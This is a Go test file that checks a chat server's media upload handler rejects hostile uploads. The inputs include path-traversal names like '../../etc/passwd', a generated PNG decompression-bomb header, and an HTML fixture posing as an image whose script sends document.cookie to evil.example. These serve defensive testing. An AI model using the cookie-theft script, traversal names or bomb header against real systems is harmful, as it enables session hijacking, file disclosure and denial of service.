package media_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"hash/crc32"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"connectrpc.com/connect"

	parleyv1 "github.com/parley-chat/parley/gen/parley/v1"
	"github.com/parley-chat/parley/server/app"
	"github.com/parley-chat/parley/server/servertest"
)

// pngHeader is a PNG signature and IHDR chunk declaring w×h, followed by
// filler: what a decompression bomb starts with.
func pngHeader(w, h uint32, filler int) []byte {
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	copy(ihdr[8:], []byte{8, 2, 0, 0, 0})
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	binary.Write(&b, binary.BigEndian, uint32(len(ihdr)))
	b.WriteString("IHDR")
	b.Write(ihdr)
	binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte("IHDR"), ihdr...)))
	b.Write(make([]byte, filler))
	return b.Bytes()
}

// TestUploadRefusals: every bad upload is refused with a clear error and
// leaves nothing stored.
func TestUploadRefusals(t *testing.T) {
	srv := newServer(t)
	p := servertest.Protocols[0]
	alice, bob, carol := newUser(t, srv, p), newUser(t, srv, p), newUser(t, srv, p)
	chatID := privateChat(t, alice, bob)

	// nothingStored checks that a refused upload left no file and no
	// media (the media id is "" when the upload was never created).
	nothingStored := func(t *testing.T, mediaID string) {
		t.Helper()
		if files := srv.files(t); len(files) != 0 {
			t.Errorf("files stored: %v", files)
		}
		if mediaID != "" {
			_, err := alice.media.GetMedia(context.Background(), req(alice, &parleyv1.GetMediaRequest{MediaId: mediaID}))
			servertest.WantCode(t, err, connect.CodeNotFound)
		}
	}
	create := func(t *testing.T, name, contentType string, size int) *parleyv1.CreateUploadResponse {
		t.Helper()
		up, err := alice.createUpload(t, chatID, name, contentType, size)
		if err != nil {
			t.Fatalf("CreateUpload: %v", err)
		}
		return up
	}

	t.Run("declared size over the limit", func(t *testing.T) {
		_, err := alice.createUpload(t, chatID, "big.bin", "application/octet-stream", 4<<20+1)
		servertest.WantCode(t, err, connect.CodeInvalidArgument)
		_, err = alice.createUpload(t, chatID, "big.png", "image/png", 2<<20+1)
		servertest.WantCode(t, err, connect.CodeInvalidArgument)
		nothingStored(t, "")
	})
	t.Run("zero bytes", func(t *testing.T) {
		_, err := alice.createUpload(t, chatID, "empty.txt", "text/plain", 0)
		servertest.WantCode(t, err, connect.CodeInvalidArgument)
		up := create(t, "short.txt", "text/plain", 10)
		if status, body := alice.put(t, up.GetUploadUrl(), http.NoBody, 0); status != http.StatusBadRequest {
			t.Fatalf("empty body: %d %s", status, body)
		}
		nothingStored(t, up.GetMedia().GetId())
	})
	t.Run("bad file names", func(t *testing.T) {
		for _, name := range []string{"../../etc/passwd", "a/b.txt", `..\x.txt`, "bell\x07.txt", "new\nline.txt", "..", "."} {
			_, err := alice.createUpload(t, chatID, name, "text/plain", 10)
			servertest.WantCode(t, err, connect.CodeInvalidArgument)
		}
		nothingStored(t, "")
	})
	t.Run("chat the caller is not in", func(t *testing.T) {
		_, err := carol.createUpload(t, chatID, "x.txt", "text/plain", 10)
		servertest.WantCode(t, err, connect.CodeNotFound)
		nothingStored(t, "")
	})
	t.Run("body longer than declared", func(t *testing.T) {
		// Declared with Content-Length: refused before reading.
		up := create(t, "long.txt", "text/plain", 1000)
		if status, body := alice.put(t, up.GetUploadUrl(), strings.NewReader(strings.Repeat("x", 1001)), 1001); status != http.StatusRequestEntityTooLarge {
			t.Fatalf("Content-Length over: %d %s", status, body)
		}
		nothingStored(t, up.GetMedia().GetId())
		// Streamed without a length, far beyond the file limit: refused
		// once the declared size is passed, without reading the rest.
		// The body stops at 16 MiB until the answer comes: a server that
		// read on would not answer.
		up = create(t, "stream.txt", "text/plain", 1000)
		body := &stallingReader{limit: 16 << 20, answered: make(chan struct{})}
		status, res := alice.put(t, up.GetUploadUrl(), body, -1)
		close(body.answered)
		if body.stalled.Load() {
			t.Errorf("no answer to a 1000-byte upload after %d bytes of its body", body.limit)
		}
		if status != http.StatusRequestEntityTooLarge {
			t.Fatalf("chunked over: %d %s", status, res)
		}
		nothingStored(t, up.GetMedia().GetId())
	})
	t.Run("body shorter than declared", func(t *testing.T) {
		up := create(t, "short.txt", "text/plain", 1000)
		if status, body := alice.put(t, up.GetUploadUrl(), strings.NewReader("only this"), -1); status != http.StatusBadRequest {
			t.Fatalf("short body: %d %s", status, body)
		}
		nothingStored(t, up.GetMedia().GetId())
	})
	t.Run("HTML declared as an image", func(t *testing.T) {
		html := []byte("<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>")
		up := create(t, "cat.png", "image/png", len(html))
		status, body := alice.put(t, up.GetUploadUrl(), bytes.NewReader(html), int64(len(html)))
		if status != http.StatusBadRequest || !strings.Contains(body, "text/html") {
			t.Fatalf("HTML as PNG: %d %s", status, body)
		}
		nothingStored(t, up.GetMedia().GetId())
	})
	t.Run("PNG declaring 100000x100000 pixels", func(t *testing.T) {
		bomb := pngHeader(100000, 100000, 4096)
		up := create(t, "bomb.png", "image/png", len(bomb))
		status, body := alice.put(t, up.GetUploadUrl(), bytes.NewReader(bomb), int64(len(bomb)))
		if status != http.StatusBadRequest || !strings.Contains(body, "100000×100000") {
			t.Fatalf("bomb: %d %s", status, body)
		}
		nothingStored(t, up.GetMedia().GetId())
	})
	t.Run("image whose pixels do not decode", func(t *testing.T) {
		broken := pngHeader(64, 64, 4096)
		up := create(t, "broken.png", "image/png", len(broken))
		if status, body := alice.put(t, up.GetUploadUrl(), bytes.NewReader(broken), int64(len(broken))); status != http.StatusBadRequest {
			t.Fatalf("broken image: %d %s", status, body)
		}
		nothingStored(t, up.GetMedia().GetId())
	})

	t.Run("token of another user", func(t *testing.T) {
		up := create(t, "mine.txt", "text/plain", 5)
		if status, body := bob.put(t, up.GetUploadUrl(), strings.NewReader("hello"), 5); status != http.StatusForbidden {
			t.Fatalf("bob with alice's token: %d %s", status, body)
		}
		if files := srv.files(t); len(files) != 0 {
			t.Errorf("files stored: %v", files)
		}
		// The refusal did not use the token up: alice can still upload.
		if status, body := alice.put(t, up.GetUploadUrl(), strings.NewReader("hello"), 5); status != http.StatusOK {
			t.Fatalf("alice after bob's attempt: %d %s", status, body)
		}
		cleanFiles(t, alice, up.GetMedia().GetId())
	})
	t.Run("token replayed", func(t *testing.T) {
		up := create(t, "once.txt", "text/plain", 5)
		if status, body := alice.put(t, up.GetUploadUrl(), strings.NewReader("first"), 5); status != http.StatusOK {
			t.Fatalf("first upload: %d %s", status, body)
		}
		before := alice.getMedia(t, up.GetMedia().GetId()).GetMedia()
		if status, body := alice.put(t, up.GetUploadUrl(), strings.NewReader("again"), 5); status != http.StatusConflict {
			t.Fatalf("replay: %d %s", status, body)
		}
		after := alice.getMedia(t, up.GetMedia().GetId()).GetMedia()
		if after.GetSha256() != before.GetSha256() {
			t.Fatalf("the replay changed the file: %s → %s", before.GetSha256(), after.GetSha256())
		}
		cleanFiles(t, alice, up.GetMedia().GetId())
	})
	t.Run("token expired", func(t *testing.T) {
		up := create(t, "late.txt", "text/plain", 5)
		srv.clock.Advance(2 * time.Minute)
		if status, body := alice.put(t, up.GetUploadUrl(), strings.NewReader("hello"), 5); status != http.StatusForbidden {
			t.Fatalf("expired token: %d %s", status, body)
		}
		if files := srv.files(t); len(files) != 0 {
			t.Errorf("files stored: %v", files)
		}
		if st := alice.getMedia(t, up.GetMedia().GetId()).GetMedia().GetState(); st != parleyv1.MediaState_MEDIA_STATE_PENDING {
			t.Errorf("state = %v, want pending", st)
		}
	})
	t.Run("token altered", func(t *testing.T) {
		up := create(t, "x.txt", "text/plain", 5)
		url := up.GetUploadUrl()
		// One character of the signature changed (the one before the
		// last, whose bits all count): "AA" in its place, as before, left
		// the URL as it was when it ended so (one time in 4,096).
		c := byte('A')
		if url[len(url)-2] == c {
			c = 'B'
		}
		url = url[:len(url)-2] + string(c) + url[len(url)-1:]
		if status, body := alice.put(t, url, strings.NewReader("hello"), 5); status != http.StatusForbidden {
			t.Fatalf("altered token: %d %s", status, body)
		}
		if status, body := alice.put(t, strings.Split(url, "?")[0], strings.NewReader("hello"), 5); status != http.StatusForbidden {
			t.Fatalf("no token: %d %s", status, body)
		}
		nothingStored(t, "")
	})
}

// TestUploadStalls: an upload whose body stops arriving is cut after the
// idle timeout and leaves nothing; too many uploads are refused.
func TestUploadStalls(t *testing.T) {
	srv := newServer(t, servertest.WithConfig(func(c *app.Config) {
		c.Media.BodyIdleTimeout = 300 * time.Millisecond
		c.Media.UploadsPerHour = 3
	}))
	p := servertest.Protocols[0]
	alice, bob := newUser(t, srv, p), newUser(t, srv, p)
	chatID := privateChat(t, alice, bob)
	up, err := alice.createUpload(t, chatID, "stall.txt", "text/plain", 1000)
	if err != nil {
		t.Fatal(err)
	}
	pr, pw := io.Pipe()
	defer pw.Close()
	go pw.Write([]byte(strings.Repeat("x", 100))) // then nothing more
	r, _ := http.NewRequest(http.MethodPut, srv.URL+up.GetUploadUrl(), pr)
	r.ContentLength = 1000
	r.Header.Set("Authorization", "Bearer "+alice.token)
	res, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatalf("stalled upload: %v", err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusRequestTimeout {
		t.Errorf("stalled upload: %d, want 408", res.StatusCode)
	}
	// The server removes the upload before it answers.
	_, err = alice.media.GetMedia(context.Background(), req(alice, &parleyv1.GetMediaRequest{MediaId: up.GetMedia().GetId()}))
	servertest.WantCode(t, err, connect.CodeNotFound)
	if files := srv.files(t); len(files) != 0 {
		t.Errorf("files stored: %v", files)
	}

	// Requests refused for what they ask take nothing of the budget.
	for range 3 {
		_, err := alice.media.CreateUpload(context.Background(), req(alice, &parleyv1.CreateUploadRequest{
			Target:   &parleyv1.CreateUploadRequest_Avatar{Avatar: true},
			FileName: "not-an-image.txt", ContentType: "text/plain", Size: 10,
		}))
		servertest.WantCode(t, err, connect.CodeInvalidArgument)
	}
	for range 2 {
		if _, err := alice.createUpload(t, chatID, "n.txt", "text/plain", 10); err != nil {
			t.Fatal(err)
		}
	}
	_, err = alice.createUpload(t, chatID, "n.txt", "text/plain", 10)
	servertest.WantCode(t, err, connect.CodeResourceExhausted)
	if _, err := bob.createUpload(t, chatID, "n.txt", "text/plain", 10); err != nil {
		t.Fatalf("another user's upload: %v", err)
	}
}

// cleanFiles deletes a test's upload, so the next subtest starts with no
// files, by sending and deleting it.
func cleanFiles(t *testing.T, u *user, mediaID string) {
	t.Helper()
	chatID := u.getMedia(t, mediaID).GetMedia().GetChatId()
	res, err := u.msgs.SendMessage(context.Background(), req(u, &parleyv1.SendMessageRequest{
		ChatId: chatID, ClientMessageId: "clean-" + mediaID, MediaIds: []string{mediaID},
	}))
	if err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	if _, err := u.msgs.DeleteMessage(context.Background(), req(u, &parleyv1.DeleteMessageRequest{
		ChatId: chatID, MessageId: res.Msg.GetMessage().GetId(),
	})); err != nil {
		t.Fatalf("DeleteMessage: %v", err)
	}
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// stallingReader gives zeros up to limit bytes, then waits for the
// answer (answered closed) before it ends; after 30 s without one it
// ends all the same, and reports that it stalled. The HTTP client reads
// a request body on a goroutine of its own, and may go on after the
// response came: a count of what it read would depend on the machine's
// load, where this does not.
type stallingReader struct {
	limit, n int64 // n: read so far, by the client's goroutine only
	answered chan struct{}
	stalled  atomic.Bool
}

func (s *stallingReader) Read(p []byte) (int, error) {
	if s.n >= s.limit {
		select {
		case <-s.answered:
		case <-time.After(30 * time.Second):
			s.stalled.Store(true)
		}
		return 0, io.EOF
	}
	p = p[:min(int64(len(p)), s.limit-s.n)]
	clear(p)
	s.n += int64(len(p))
	return len(p), nil
}
